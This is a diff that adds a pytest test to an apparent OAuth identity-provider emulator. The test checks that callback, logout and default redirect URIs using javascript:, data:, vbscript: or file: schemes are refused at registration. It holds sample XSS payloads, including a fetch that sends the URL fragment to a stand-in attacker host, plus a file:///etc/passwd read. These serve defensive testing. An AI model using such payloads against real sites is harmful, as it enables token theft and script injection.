@@ -333,3 +333,43 @@ def test_tokens_never_go_in_the_query(gatehouse: GatehouseServer, idp: Any, pool
     back = browser.sign_in(browser.authorize_url(implicit, response_type="token"), "alice")
     assert back.status_code == 303 and "access_token" in _fragment(back.headers["Location"])
     assert not urlsplit(back.headers["Location"]).query
+
+
+# --- redirect URIs a browser would run rather than follow ----------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("member", "uri"),
+    [
+        ("CallbackURLs", "javascript:alert(document.domain)//"),
+        ("CallbackURLs", "JavaScript:fetch('//evil.example/'+location.hash)"),
+        ("CallbackURLs", "data:text/html,<script>alert(1)</script>"),
+        ("LogoutURLs", "javascript:alert(1)"),
+        ("LogoutURLs", "vbscript:msgbox(1)"),
+        ("DefaultRedirectURI", "file:///etc/passwd"),
+    ],
+)
+def test_script_scheme_redirect_uris_are_refused_and_nothing_changes(
+    idp: Any, pool: OAuthPool, member: str, uri: str
+) -> None:
+    """A callback or sign-out URL the browser would execute or read itself is refused at registration (the
+    redirect would carry the code or the user into a script of the attacker's choosing), on create and on
+    update, and the client is left as it was."""
+    settings: dict[str, Any] = {
+        "AllowedOAuthFlowsUserPoolClient": True,
+        "AllowedOAuthFlows": ["code"],
+        "AllowedOAuthScopes": ["openid"],
+        "CallbackURLs": [CALLBACK],
+    }
+    bad = {**settings, member: uri if member == "DefaultRedirectURI" else [uri]}
+    if member == "DefaultRedirectURI":
+        bad["CallbackURLs"] = [CALLBACK, uri]
+    with pytest.raises(idp.exceptions.InvalidParameterException):
+        idp.create_user_pool_client(UserPoolId=pool.pool_id, ClientName="script-scheme", **bad)
+    names = [c["ClientName"] for c in idp.list_user_pool_clients(UserPoolId=pool.pool_id)["UserPoolClients"]]
+    assert "script-scheme" not in names
+    with pytest.raises(idp.exceptions.InvalidParameterException):
+        idp.update_user_pool_client(UserPoolId=pool.pool_id, ClientId=pool.public_id, **bad)
+    described = idp.describe_user_pool_client(UserPoolId=pool.pool_id, ClientId=pool.public_id)["UserPoolClient"]
+    assert described["CallbackURLs"] == [CALLBACK, "http://localhost:8080/cb"]
+    assert described["LogoutURLs"] == [LOGOUT] and "DefaultRedirectURI" not in described
